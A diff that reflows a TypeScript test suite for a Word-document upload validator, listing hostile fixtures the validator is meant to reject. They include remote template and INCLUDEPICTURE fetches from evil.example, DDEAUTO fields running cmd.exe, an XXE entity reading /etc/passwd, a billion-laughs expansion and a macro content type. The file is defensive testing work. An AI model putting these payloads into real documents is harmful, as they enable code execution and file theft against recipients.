@@ -24,14 +24,23 @@ const end = '<w:fldChar w:fldCharType="end"/>'
 const says = (text: string) => `<w:instrText xml:space="preserve">${text}</w:instrText>`
 
 test.each<[string, Entry]>([
-  ['a link to a page', relation(`Type="${OFFICE}/hyperlink" Target="https://example.org/me?a=1&amp;b=2" TargetMode="External"`)],
-  ['a link to an address', relation(`Type="${OFFICE}/hyperlink" Target="mailto:amara@example.org" TargetMode="External"`)],
+  [
+    'a link to a page',
+    relation(`Type="${OFFICE}/hyperlink" Target="https://example.org/me?a=1&amp;b=2" TargetMode="External"`),
+  ],
+  [
+    'a link to an address',
+    relation(`Type="${OFFICE}/hyperlink" Target="mailto:amara@example.org" TargetMode="External"`),
+  ],
   ['a link without a scheme', relation(`Type="${OFFICE}/hyperlink" Target="www.example.org" TargetMode="External"`)],
   ['a picture of its own', relation(`Type="${OFFICE}/image" Target="media/image1.png"`)],
   ['a link as a field', part(run(begin, says(' HYPERLINK "https://example.org/dde/include" '), end))],
   ['a page number', part(`<w:fldSimple w:instr=" PAGE "/>`)],
   ['words about it', part(run('<w:t>I wrote DDEAUTO and INCLUDEPICTURE &lt;manuals&gt; &amp; more</w:t>'))],
-  ['a part in UTF-8 with a byte order mark', { name: 'word/notes.xml', content: `\ufeff<?xml version="1.0"?><a>é</a>` }],
+  [
+    'a part in UTF-8 with a byte order mark',
+    { name: 'word/notes.xml', content: `\ufeff<?xml version="1.0"?><a>é</a>` },
+  ],
 ])('a Word document with %s may be kept', async (_what, entry) => {
   expect(await problemOfDocx(makeDocx('cv', [entry]))).toBeUndefined()
 })
@@ -41,10 +50,15 @@ const template = `${OFFICE}/attachedTemplate`
 test.each<[string, Entry]>([
   ['a template elsewhere', relation(`Type="${template}" Target="https://evil.example/t.dotm" TargetMode="External"`)],
   ['one behind a >', relation(`Type="${template}" Target="https://evil.example/t.dotm?>" TargetMode="External"`)],
-  ['one that names a hyperlink', relation(`Type="${template}" Target="https://evil.example/?Type='/hyperlink'" TargetMode="External"`)],
+  [
+    'one that names a hyperlink',
+    relation(`Type="${template}" Target="https://evil.example/?Type='/hyperlink'" TargetMode="External"`),
+  ],
   [
     'one with a hyperlink of another name',
-    relation(`Type="${template}" xmlns:x="urn:x" x:Type="${OFFICE}/hyperlink" Target="https://evil.example" TargetMode="External"`),
+    relation(
+      `Type="${template}" xmlns:x="urn:x" x:Type="${OFFICE}/hyperlink" Target="https://evil.example" TargetMode="External"`,
+    ),
   ],
   [
     'one whose kind ends alike',
@@ -72,7 +86,10 @@ test.each<[string, Entry]>([
   ['DDE between CDATA', part(run(begin, says('<![CDATA[DDE]]>AUTO cmd'), end))],
   ['a picture fetched by a field', part(run(begin, says(' INCLUDEPICTURE "https://evil.example/p.png" \\d'), end))],
   ['a text fetched by a field', part(run(begin, says(' INCLUDETEXT "\\\\\\\\evil\\\\t.docx"'), end))],
-  ['a picture fetched by a drawing', part(`<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="https://evil.example/p.png"/>`)],
+  [
+    'a picture fetched by a drawing',
+    part(`<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="https://evil.example/p.png"/>`),
+  ],
   ['a data source', part('<w:mailMerge/>', 'word/settings.xml')],
 ])('a Word document with %s loads parts from elsewhere (UP06)', async (_what, entry) => {
   expect(await problemOfDocx(makeDocx('cv', [entry]))).toContain('loads parts from elsewhere')
@@ -99,11 +116,15 @@ test('a part is read by its type, not by its name', async () => {
     '<Override PartName="/word/Picture.png" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"/>',
   )
   expect(await problemOfDocx(makeDocx('cv', [hidden], named))).toContain('loads parts from elsewhere')
-  expect(await problemOfDocx(makeDocx('cv', [HTML], types('<Override PartName="/word/afchunk.dat" ContentType="text/html"/>')))).toContain(
-    'other files',
-  )
   expect(
-    await problemOfDocx(makeDocx('cv', [], types('<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'))),
+    await problemOfDocx(
+      makeDocx('cv', [HTML], types('<Override PartName="/word/afchunk.dat" ContentType="text/html"/>')),
+    ),
+  ).toContain('other files')
+  expect(
+    await problemOfDocx(
+      makeDocx('cv', [], types('<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>')),
+    ),
   ).toContain('macros')
 })
 
@@ -111,7 +132,10 @@ const laughs = `<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><a>&b;</a>
 
 test.each<[string, Entry]>([
   ['an entity that grows', { name: 'word/a.xml', content: laughs }],
-  ['an entity from a file', { name: 'word/a.xml', content: `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>` }],
+  [
+    'an entity from a file',
+    { name: 'word/a.xml', content: `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>` },
+  ],
   ['an unknown entity', { name: 'word/a.xml', content: '<a>&nbsp;</a>' }],
   ['another encoding', { name: 'word/a.xml', content: `<?xml version="1.0" encoding="UTF-7"?><a>+ADw-</a>` }],
   ['UTF-16', { name: 'word/a.xml', content: Buffer.from('\ufeff<a>x</a>', 'utf16le') }],
@@ -126,5 +150,7 @@ test('an old Word document with a field that runs something is refused', () => {
   const main = Buffer.from('WordDocument', 'utf16le')
   expect(problemOfDoc(Buffer.concat([main, Buffer.from('A CV about DDEAUTO')]))).toBeUndefined()
   for (const encoding of ['latin1', 'utf16le'] as const)
-    expect(problemOfDoc(Buffer.concat([main, Buffer.from('\x13 DDEAUTO c:\\cmd.exe \x14', encoding)]))).toContain('elsewhere')
+    expect(problemOfDoc(Buffer.concat([main, Buffer.from('\x13 DDEAUTO c:\\cmd.exe \x14', encoding)]))).toContain(
+      'elsewhere',
+    )
 })
